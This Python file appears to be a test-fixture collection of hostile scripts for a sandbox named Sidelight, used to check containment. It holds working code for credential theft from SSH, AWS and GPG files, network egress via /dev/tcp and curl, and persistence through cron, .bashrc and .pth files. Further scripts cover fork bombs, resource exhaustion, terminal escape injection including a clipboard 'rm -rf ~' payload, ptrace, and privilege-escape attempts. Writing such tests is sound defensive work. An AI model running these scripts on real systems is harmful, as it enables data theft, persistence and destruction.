# SPDX-FileCopyrightText: The Sidelight authors
# SPDX-License-Identifier: Apache-2.0
# They are as a stranger would write them.
# ruff: noqa: E501
"""Scripts as a hostile stranger would send them, who knows the program and not how it is made.

Each prints ``PWNED`` when it has what it came for. ``OUTSIDE`` stands for a folder of the user's with a file
``precious.txt``, ``PORT`` for a listening port, ``VICTIM`` for a process of the user's.
"""

from __future__ import annotations

SCRIPTS = {
    "thief of keys": """
import glob, os, pathlib
for place in ("~/.ssh/*", "~/.aws/*", "~/.config/*", "~/.gnupg/*", "~/.netrc", "~/.mozilla/*", "OUTSIDE/*"):
    for name in glob.glob(os.path.expanduser(place)) + [os.path.expanduser(place.replace("*", "precious.txt"))]:
        try:
            print("PWNED", name, open(name).read(20))
        except OSError:
            pass
for name, value in os.environ.items():
    if "KEY" in name or "TOKEN" in name or "canary" in value:
        print("PWNED", name)
""",
    "sender home": """
import socket, subprocess, urllib.request, shutil
def attempt(work):
    try:
        work(); print("PWNED")
    except Exception as error:
        print(type(error).__name__)
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:PORT/", timeout=2))
attempt(lambda: socket.create_connection(("127.0.0.1", PORT), 2))
attempt(lambda: socket.getaddrinfo("localhost", 80) and socket.socket().connect(("127.0.0.1", PORT)))
for line in (["bash", "-c", "echo x > /dev/tcp/127.0.0.1/PORT"], ["perl", "-MIO::Socket::INET", "-e",
        "IO::Socket::INET->new('127.0.0.1:PORT') or exit 1"], ["curl", "-m", "2", "http://127.0.0.1:PORT"]):
    if shutil.which(line[0]) and subprocess.run(line, capture_output=True).returncode == 0:
        print("PWNED", line[0])
""",
    "planter of startup files": """
import os, site, sys, pathlib
home = os.path.expanduser("~")
code = "import os; os.system('touch OUTSIDE/planted')\\n"
tries = [site.getusersitepackages() + "/usercustomize.py", *(p + "/zz.pth" for p in sys.path),
         "OUTSIDE/.bashrc", "OUTSIDE/.config/autostart/x.desktop", "/etc/cron.d/x", "/var/spool/cron/root"]
tries += [str(pathlib.Path(os.__file__).parent / "__pycache__" / "evil.pyc"), os.__file__]
for name in tries:
    if name.startswith(os.getcwd()):
        continue
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        with open(name, "a") as file:
            file.write(code)
        print("PWNED", name)
    except OSError as error:
        print(error.errno)
""",
    "daemon": """
import os, signal, sys, time
if os.fork(): os._exit(0)
try: os.setsid()
except OSError: pass
if os.fork(): os._exit(0)
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
for descriptor in range(3):
    os.close(descriptor)
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)"])
""",
    "shell daemon": """
import os
os.system("nohup setsid sh -c 'while :; do sleep 1; done' >/dev/null 2>&1 &")
os.system("(trap '' TERM HUP INT; sleep 3600) & disown 2>/dev/null; true")
""",
    "killer": """
import os, signal
for pid in (VICTIM, os.getppid(), -1, 1, 2):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        if pid in (-1, os.getpid()): continue
        try:
            os.kill(pid, number)
            print("sent" if pid == 1 else "PWNED", pid)
        except OSError as error:
            print(error.errno)
os.system("kill -9 VICTIM")
""",
    "fork bomb in a shell": "import os\nos.execv('/bin/sh', ['sh', '-c', 'b() { b | b & }; b; sleep 1'])",
    "fork bomb in perl": "import os\nos.execv('/usr/bin/perl', ['perl', '-e', 'fork while 1'])",
    "memory eater with friends": """
import os
for _ in range(5): os.fork()
hoard = []
while True:
    hoard.append(bytearray(os.urandom(1 << 16) * 64))
""",
    "disk filler with links": """
import os
chunk = os.urandom(1 << 20)
os.mkdir("d")
n = 0
while True:
    with open(f"d/{n}", "wb") as f:
        for _ in range(8): f.write(chunk)
    try: os.link(f"d/{n}", f"l{n}")
    except OSError: os.symlink(f"d/{n}", f"l{n}")
    if n % 3 == 0: os.rename(f"d/{n}", f".hidden{n}")
    n += 1
""",
    "terminal painter": r"""
import sys
for _ in range(20):
    sys.stdout.write("\x1b]0;root shell\x07\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4=\x07\x1bP+q\x1b\\\x9b6n\u202e")
sys.stderr.write("\x1b[31mSidelight: your password:\x1b[0m\r" + "\x08" * 50 + "A" * 200_000 + "\x00\n")
""",
    "ctypes acrobat": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
won = []
for number in list(range(335)) + list(range(424, 470)):
    if number in (0, 7, 15, 23, 34, 35, 56, 57, 58, 59, 60, 61, 128, 130, 219, 230, 231, 232, 270, 271, 281, 322,
                  441, 247, 435, 202, 449, 455, 456, 14, 24, 37, 38, 62, 200, 234):
        continue
    pid = os.fork()
    if pid == 0:
        libc.alarm(2)
        libc.syscall(ctypes.c_long(number), *[ctypes.c_long(n) for n in (-1, 0, 0, 0, 0, 0)])
        os._exit(0)
    os.waitpid(pid, 0)
try:
    open("OUTSIDE/precious.txt"); print("PWNED")
except OSError:
    print("still held")
""",
    "debugger": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (VICTIM, os.getppid()):
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("PWNED")
    try:
        open(f"/proc/{pid}/mem", "rb"); print("PWNED")
    except OSError: pass
    try:
        print("PWNED", open(f"/proc/{pid}/environ").read()[:20])
    except OSError: pass
""",
    "traveller": """
import os, subprocess
for line in ("chroot . /bin/sh -c 'echo PWNED'", "unshare -r sh -c 'echo PWNED'", "nsenter -t VICTIM -a echo PWNED",
             "mount -t tmpfs none /mnt && echo PWNED", "su -c 'echo PWNED'", "sudo -n echo PWNED",
             "cat OUTSIDE/precious.txt && echo PWNED", "at now </dev/null && echo PWNED", "dbus-send --session "
             "--dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames && echo PWNED", "xterm -e true && echo PWNED",
             "systemd-run --user true && echo PWNED", "ssh-add -l && echo PWNED", "screen -dm sleep 99 && echo PWNED"):
    print(subprocess.run(line, shell=True, capture_output=True, text=True, timeout=20).stdout.strip())
""",
    "link weaver": """
import os, shutil, threading
os.makedirs("a/b/c", exist_ok=True)
for name, target in (("out", "OUTSIDE"), ("root", "/"), ("self", "."), ("up", ".."), ("a/b/tmp", "/tmp")):
    try: os.symlink(target, name)
    except OSError: pass
deep = "x" * 200
try:
    for _ in range(90):
        os.mkdir(deep); os.chdir(deep)
except OSError: pass
try: open("/".join(["out", "precious.txt"])).read(); print("PWNED")
except OSError: pass
for name in ("\\n", "-rf", "*", "\\x1b[2J", "a\\udcff"):
    try: open(name, "w").write("x")
    except OSError: pass
os.chmod(".", 0)
""",
    "keeper of its supervisor": """
import os, sys, time, threading, resource
for kind in range(16):
    try: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2); print("PWNED" if kind not in (3, 5, 9, 10, 15) else "")
    except (OSError, ValueError): pass
def spin():
    while True: os.stat(".")
for _ in range(30): threading.Thread(target=spin, daemon=True).start()
while True:
    os.write(1, b"." * 65536); os.write(2, b"!" * 65536)
""",
}
